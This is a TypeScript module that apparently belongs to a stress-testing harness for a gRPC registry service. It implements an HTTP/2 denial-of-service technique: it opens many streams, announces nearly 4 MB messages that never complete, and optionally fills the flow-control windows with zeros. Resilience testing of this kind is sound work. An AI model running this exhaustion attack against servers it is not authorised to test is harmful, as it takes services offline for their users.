import {
  callHeaders,
  END_HEADERS,
  FRAME,
  frame,
  helloFrames,
  uint32,
} from "../../wire/raw-frames.js";
import { type Attack, openMany } from "./attack.js";

const REGISTER = "/pulse.v1.RegistryService/Register";
const STREAMS_AT_A_TIME = 100;

/** Bytes of a message that comes almost whole, and never quite: a little under the limit. */
const ALMOST = 3_900_000;
/** No more than a stream's window, which is opened only if what has come is taken. */
const WINDOW = 65_535;

/**
 * Calls that are begun and never asked: `form` is how many on each connection, and
 * "filled" if almost all of the request is sent.
 */
export const streams: Attack = async (config, harvest) => {
  const [each = "1", filling] = (config.form ?? "").split(", ");
  const perConnection = Number(each);
  await openMany(config, harvest, Math.ceil(config.count / perConnection), (socket) => {
    socket.on("data", (bytes: Buffer) => {
      harvest.seen.bytes = (harvest.seen.bytes ?? 0) + bytes.length;
    });
    socket.once("end", () => socket.destroy());
    socket.write(helloFrames());
    const head = Buffer.from([0, ...uint32(ALMOST + 1)]);
    for (let first = 0; first < perConnection; first += STREAMS_AT_A_TIME) {
      const frames: Buffer[] = [];
      for (let n = first; n < Math.min(perConnection, first + STREAMS_AT_A_TIME); n++) {
        const stream = 2 * n + 1;
        frames.push(
          frame(FRAME.headers, END_HEADERS, stream, callHeaders(REGISTER)),
          frame(FRAME.data, 0, stream, head),
        );
      }
      socket.write(Buffer.concat(frames));
    }
    if (filling !== "filled") return;
    // Blind: what is sent beyond a window is a mistake of ours, so wait for its updates.
    fill(socket, perConnection, harvest);
  });
};

/** Sends what the windows allow, and asks for no more than that. */
function fill(
  socket: import("node:net").Socket,
  streamCount: number,
  harvest: { sentBytes: number },
): void {
  let connectionWindow = WINDOW - 5 * streamCount;
  const windows = new Map<number, number>();
  const left = new Map<number, number>();
  for (let n = 0; n < streamCount; n++) {
    windows.set(2 * n + 1, WINDOW - 5);
    left.set(2 * n + 1, ALMOST);
  }
  const zeros = Buffer.alloc(16_000);
  let unread: Buffer = Buffer.alloc(0);
  const send = () => {
    for (const [stream, window] of windows) {
      for (;;) {
        const length = Math.min(
          windows.get(stream) ?? window,
          connectionWindow,
          left.get(stream) ?? 0,
          zeros.length,
        );
        if (length <= 0) break;
        socket.write(frame(FRAME.data, 0, stream, zeros.subarray(0, length)));
        harvest.sentBytes += length;
        connectionWindow -= length;
        windows.set(stream, (windows.get(stream) ?? 0) - length);
        left.set(stream, (left.get(stream) ?? 0) - length);
      }
      if (connectionWindow <= 0) return;
    }
  };
  socket.on("data", (bytes: Buffer) => {
    unread = Buffer.concat([unread, bytes]);
    let at = 0;
    while (unread.length >= at + 9) {
      const length = unread.readUIntBE(at, 3);
      if (unread.length < at + 9 + length) break;
      const type = unread.readUInt8(at + 3);
      const stream = unread.readUInt32BE(at + 5);
      if (type === FRAME.windowUpdate) {
        const more = unread.readUInt32BE(at + 9);
        if (stream === 0) connectionWindow += more;
        else windows.set(stream, (windows.get(stream) ?? 0) + more);
      } else if (type === FRAME.reset) {
        windows.delete(stream);
      } else if (type === FRAME.settings && (unread.readUInt8(at + 4) & 1) === 0) {
        socket.write(frame(FRAME.settings, 1, 0));
      }
      at += 9 + length;
    }
    unread = unread.subarray(at);
    send();
  });
  send();
}
